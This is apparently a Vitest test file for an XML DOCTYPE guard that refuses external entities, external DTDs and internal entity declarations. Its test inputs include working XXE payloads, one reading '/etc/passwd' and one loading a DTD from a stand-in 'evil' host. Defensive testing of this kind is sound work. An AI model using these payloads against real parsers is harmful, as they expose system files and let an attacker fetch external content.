import { describe, expect, it } from 'vitest';
import { checkDoctype, findDoctype } from './doctype-guard.js';

describe('checkDoctype', () => {
  it('accepts documents without DOCTYPE, whatever comes before the root', () => {
    expect(checkDoctype('<a/>')).toEqual([]);
    expect(checkDoctype('\uFEFF<?xml version="1.0"?>\n<?xml-stylesheet href="x.xsl"?>\n<!-- <!DOCTYPE in a comment> -->\n<a/>')).toEqual([]);
    expect(checkDoctype('<a><![CDATA[<!DOCTYPE x SYSTEM "y">]]></a>')).toEqual([]);
  });

  it('refuses external entities and external DTDs, giving the line of the declaration', () => {
    const xxe = '<?xml version="1.0"?>\n<!DOCTYPE a [\n<!ENTITY e SYSTEM "file:///etc/passwd">\n]>\n<a>&e;</a>';
    expect(checkDoctype(xxe)).toEqual([expect.objectContaining({ severity: 'error', code: 'XML_EXTERNAL_ENTITY', path: 'line 2' })]);
    expect(checkDoctype('<!DOCTYPE a PUBLIC "-//X//DTD" "a.dtd"><a/>')[0]?.code).toBe('XML_EXTERNAL_ENTITY');
    expect(checkDoctype('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><a/>')[0]?.code).toBe('XML_EXTERNAL_ENTITY');
  });

  it('refuses an internal-only DTD (entity expansion) with XML_DOCTYPE', () => {
    expect(checkDoctype('<!DOCTYPE a [<!ENTITY x "xx">]><a>&x;</a>')[0]?.code).toBe('XML_DOCTYPE');
  });

  it('reads the prolog of UTF-8 and UTF-16 buffers', () => {
    const text = '<!DOCTYPE a SYSTEM "a.dtd"><a/>';
    expect(checkDoctype(Buffer.from(text))[0]?.code).toBe('XML_EXTERNAL_ENTITY');
    expect(checkDoctype(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))[0]?.code).toBe('XML_EXTERNAL_ENTITY');
  });

  it('keeps a bracket inside a quoted literal from ending the internal subset', () => {
    expect(findDoctype('<!DOCTYPE a [<!ENTITY x "]>">]><a/>')?.text).toBe('<!DOCTYPE a [<!ENTITY x "]>">]>');
  });
});
